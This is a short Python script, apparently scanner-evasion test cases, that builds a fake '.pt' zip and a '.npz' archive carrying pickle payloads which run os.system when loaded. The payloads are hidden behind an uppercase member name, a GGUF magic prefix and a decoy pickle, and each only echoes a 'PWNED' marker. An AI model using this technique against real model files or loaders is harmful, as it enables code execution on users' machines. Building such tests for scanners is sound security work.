import zipfile, pickle, os, numpy as np, io
pay = b"cos\nsystem\n(S'echo PWNED_case'\ntR."
gg = b'GGUF' + b'\x00'*5 + b'0' + pay
with zipfile.ZipFile('/tmp/r/case.pt','w') as z:
    z.writestr('archive/DATA.PKL', gg); z.writestr('archive/version','3\n')
# npz with data.pkl marker + data/x.npy object array
class E:
    def __reduce__(self): return (os.system, ('echo PWNED_npz',))
b = io.BytesIO(); np.save(b, np.array([E()], dtype=object), allow_pickle=True)
with zipfile.ZipFile('/tmp/r/skip.npz','w') as z:
    z.writestr('data.pkl', pickle.dumps({'a':1})); z.writestr('data/x.npy', b.getvalue())
